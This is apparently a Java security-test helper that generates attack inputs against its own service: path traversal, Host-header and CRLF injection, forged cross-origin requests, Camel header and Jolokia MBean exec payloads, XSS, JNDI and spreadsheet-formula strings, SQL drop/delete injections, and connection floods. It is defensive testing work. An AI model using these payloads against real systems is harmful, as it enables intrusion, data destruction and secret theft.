package dev.balancesync.http;

import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import javax.management.JMException;
import javax.management.MBeanOperationInfo;
import javax.management.MBeanServer;
import javax.management.ObjectName;

/** Attacks by the hundred: every combination of what an attack of a kind is made of. {@code docs/security.md} tells how many. */
public final class Attacks {
    /** An address asks no more than so often, or the brake and not the guard would answer. */
    static final int PER_ADDRESS = 400;
    private static final int CLOSED = 0;
    private static final String REFRESH = "/api/refresh";
    private static final String JOLOKIA = "/jolokia/";

    /** A request whose headers a foreign page can have sent. */
    record Forged(String method, String path, String[] headers) {
    }

    private Attacks() {
    }

    /** Out of each folder, by each spelling of "up", to what lies beside the pages. */
    static List<String> paths() {
        List<String> climbs = all(List.of("..", "%2e%2e", ".%2e", "%2e.", "%252e%252e", "..;", "....", "\\..", "%c0%ae%c0%ae", "..%00"), List.of("/", "%2f", "%5c", "//"));
        return all(List.of("/", "/hawtio/", "/hawtio/static/", "/uplot/", "/api/", "/observe/health/"),
                Stream.concat(climbs.stream(), climbs.stream().map(each -> each.repeat(3))).toList(),
                List.of("application.properties", ".env", "pom.xml", "etc/passwd", "routes/token.camel.yaml"));
    }

    /** Header lines that name this service as what it is not. */
    static List<String> hosts(int port) {
        List<String> names = List.of("evil.example", "localhost.evil.example", "127.0.0.1.evil.example", "127.0.0.1.nip.io", "evil.localhost", "localhost.localdomain",
                "ip6-localhost", "host.docker.internal", "kiwoom", "local", "locaIhost", "localhost0", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0", "0.0.0.0",
                "127.0.0.1.0", "192.168.0.9", "10.0.0.1", "[::]", "[::ffff:127.0.0.1]", "[fe80::1]", "xn--lcalhost-54a");
        List<String> forms = List.of("%s", "%s:" + port, "%s:80", "%s.", "%s:99999", "%s:", "localhost@%s", "%s/localhost", "%s#localhost", "%s?localhost", "localhost,%s",
                "%s\r\nX-Forwarded-Host: localhost", "%s\r\nForwarded: host=localhost", "%s\r\nX-Host: localhost", "%s\r\nX-Original-Host: localhost");
        return forms.stream().flatMap(form -> names.stream().map(name -> "Host: " + String.format(form, name))).toList();
    }

    /** What a page of somebody else can have a browser ask, and how the browser tells whose page that is. */
    static List<Forged> forged(int port) {
        List<String> origins = List.of("http://evil.example", "https://evil.example", "null", "http://localhost.evil.example", "http://localhost:1", "http://127.0.0.1:1",
                "http://evil.example:" + port, "file://");
        List<String> tellings = List.of("Origin: %s", "Referer: %s/page", "Origin: %s\r\nSec-Fetch-Site: cross-site", "Origin: %s\r\nSec-Fetch-Site: same-site");
        List<String> types = List.of("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json", "text/html");
        var all = new ArrayList<Forged>();
        for (String origin : origins) {
            for (String telling : tellings) {
                for (String type : types) {
                    String[] headers = {String.format(telling, origin), "Content-Type: " + type};
                    all.add(new Forged("POST", REFRESH, headers));
                    all.add(new Forged("POST", JOLOKIA, headers));
                    all.add(new Forged("GET", "/jolokia/version", headers));
                }
            }
        }
        return all;
    }

    /** Camel obeys headers of these names; each list goes with one request, in one spelling and with one value. */
    static List<List<String>> camelHeaders() {
        List<String> names = List.of("CamelHttpUri", "CamelHttpUrl", "CamelHttpPath", "CamelHttpQuery", "CamelHttpRawQuery", "CamelHttpMethod", "CamelHttpResponseCode",
                "CamelHttpResponseText", "CamelHttpCharacterEncoding", "CamelHttpBaseUri", "CamelHttpHost", "CamelHttpPort", "CamelHttpScheme", "CamelHttpServletRequest",
                "CamelHttpProtocolVersion", "CamelRestHttpUri", "CamelRestHttpQuery", "CamelSqlQuery", "CamelSqlParameters", "CamelSqlRetrieveGeneratedKeys", "CamelSqlGeneratedColumns",
                "CamelSqlRowCount", "CamelSqlUpdateCount", "CamelBeanMethodName", "CamelBeanParameterMapping", "CamelFileName", "CamelFileNameOnly", "CamelFilePath", "CamelFileParent",
                "CamelFileAbsolutePath", "CamelOverruleFileName", "CamelToEndpoint", "CamelRecipientListEndpoint", "CamelRedelivered", "CamelRedeliveryCounter", "CamelRouteStop",
                "CamelExceptionCaught", "CamelAuthentication", "CamelMessageTimestamp", "CamelCharsetName", "CamelLanguageScript", "CamelVertxWebsocketConnectionKey",
                "CamelVertxWebsocketSendToAll", "CamelVertxWebsocketEvent");
        List<String> values = List.of("http://127.0.0.1:1/", "delete from kw_portfolio", "../../../../etc/passwd", "${bean:account?method=spelling}", "{{kiwoom.app-secret}}", "toString",
                "404");
        return Stream.of("Camel", "camel", "CAmel").flatMap(spelling -> values.stream().map(value ->
                names.stream().map(name -> name.replaceFirst("Camel", spelling) + ": " + value).toList())).toList();
    }

    /** Every operation of every kind of MBean there is in this process, but those that {@code jolokia-access.xml} opens. */
    static List<String> operations() throws JMException {
        MBeanServer server = ManagementFactory.getPlatformMBeanServer();
        var all = new HashMap<String, String>();
        for (ObjectName name : server.queryNames(null, null)) {
            for (MBeanOperationInfo each : server.getMBeanInfo(name).getOperations()) {
                List<String> types = Stream.of(each.getSignature()).map(parameter -> parameter.getType()).toList();
                String operation = each.getName() + "(" + String.join(",", types) + ")";
                String kind = name.getDomain() + " " + name.getKeyProperty("type") + " " + server.getMBeanInfo(name).getClassName() + " " + operation;
                if (!isOpened(name, operation)) {
                    all.put(kind, "{\"type\":\"exec\",\"mbean\":" + quoted(name.toString()) + ",\"operation\":" + quoted(operation) + ",\"arguments\":["
                            + String.join(",", types.stream().map(type -> "null").toList()) + "]}");
                }
            }
        }
        return List.copyOf(all.values());
    }

    private static boolean isOpened(ObjectName name, String operation) {
        return "org.apache.camel".equals(name.getDomain()) && switch (String.valueOf(name.getKeyProperty("type"))) {
            case "context" -> operation.matches("dumpRoutesAsXml\\(\\)|(dumpRoutesStatsAsXml|dumpStepStatsAsXml|getCamelVersion).*");
            case "routes" -> operation.matches("dumpRouteAsXml\\(\\)|dumpRouteStatsAsXml.*");
            default -> false;
        };
    }

    private static String quoted(String text) {
        return '"' + text.replace("\\", "\\\\").replace("\"", "\\\"") + '"';
    }

    /** What steers a terminal, turns text around, is markup, calls somebody or is a formula, alone and within other words. */
    public static List<String> texts() {
        List<String> signs = IntStream.of(IntStream.concat(IntStream.concat(IntStream.rangeClosed(1, 8), IntStream.rangeClosed(14, 31)), IntStream.concat(IntStream.rangeClosed(127, 159),
                IntStream.of(0xad, 0x61c, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0xfeff)))
                .toArray()).mapToObj(sign -> "종" + Character.toString(sign) + "목").toList();
        List<String> words = List.of("<script>self.hacked=1</script>", "<img src=x onerror=self.hacked=1>", "<svg onload=self.hacked=1>", "<iframe src=javascript:parent.hacked=1>",
                "<a href=javascript:self.hacked=1>x</a>", "<style>*{display:none}</style>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
                "</td></tr></table>", "</script>", "-->", "]]>", "&lt;b&gt;", "&#x3c;script&#x3e;", "{{constructor.constructor('self.hacked=1')()}}", "${self.hacked=1}", "`${self.hacked=1}`",
                "javascript:self.hacked=1", "data:text/html,<script>self.hacked=1</script>", "\" onmouseover=\"self.hacked=1", "' onfocus='self.hacked=1", "=1+1", "+1+1", "-1+1", "@SUM(1)",
                "=HYPERLINK(\"http://evil.example\")", "=cmd|' /C calc'!A0", "\\u003cscript\\u003e", "%3Cscript%3E", "${jndi:ldap://evil.example/x}", "${env:KIWOOM_APP_SECRET}",
                "{{kiwoom.app-secret}}", "@everyone", "@here", "<@1>", "<!channel>", "[x](http://evil.example)", "http://evil.example/", "\u001b[2J\u001b[1;1H", "\u001b]0;x\u0007",
                "\u001b[31m빨강\u001b[0m", "event: status\ndata: {}", "\r\n\r\nHTTP/1.1 200 OK", "\r\nSet-Cookie: x=1", "%0d%0aX: 1", "__proto__", "constructor", "toString", "undefined", "NaN", "null",
                "-0", "1e999", "../../etc/passwd", "nul", "\u202egnp.exe", "ﷺ".repeat(9), "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "😀👨‍👩‍👧‍👦", "漢".repeat(200), "a".repeat(400), "ا".repeat(100), "\ufdd0\uffff");
        return Stream.of(signs, words, words.stream().map(each -> "삼성" + each + "전자").toList(), words.stream().map(each -> each + "\u202e" + each).toList(),
                words.stream().map(each -> "\"" + each + "\"").toList(), signs.stream().map(each -> each.repeat(3)).toList()).flatMap(List::stream).map(String::strip).distinct().toList();
    }

    /** What would be a statement where a text became part of one. */
    static List<String> statements() {
        return all(List.of("", "x", "005930", "삼성전자", "1", "%", "\\"),
                List.of("'", "''", "\"", "');", "$$", "' or '1'='1", "\\' --", "'/*", "*/;", "'::text;"),
                List.of(" delete from kw_portfolio; --", " drop table kw_portfolio cascade; --"));
    }

    /** Callers that come, say a part of something or nothing, and go. */
    static void connect(int port, int times) throws IOException {
        byte[] part = "POST /api/refresh HTTP/1.1\r\nHost: ".getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i < times; i++) {
            try (var socket = new Socket(InetAddress.getLoopbackAddress(), port, address(i), 0)) {
                socket.getOutputStream().write(part, 0, i % part.length);
            }
        }
    }

    /** Asks for a snapshot again and again. How many were answered how, {@value #CLOSED} for those that got no answer. */
    static Map<Integer, Integer> refresh(int port, int times) throws IOException {
        var answers = new HashMap<Integer, Integer>();
        for (int i = 0; i < times; i++) {
            answers.merge(refresh(new RawHttp(port, address(i).getHostAddress())), 1, Integer::sum);
        }
        return answers;
    }

    private static int refresh(RawHttp http) {
        try {
            return http.post(REFRESH, "").status();
        } catch (IOException e) {
            return CLOSED;
        }
    }

    private static InetAddress address(int i) throws IOException {
        return InetAddress.getByName("127.4." + i / PER_ADDRESS % 250 + ".1");
    }

    @SafeVarargs
    private static List<String> all(List<String>... parts) {
        List<String> all = List.of("");
        for (List<String> part : parts) {
            all = all.stream().flatMap(begun -> part.stream().map(begun::concat)).toList();
        }
        return all;
    }
}
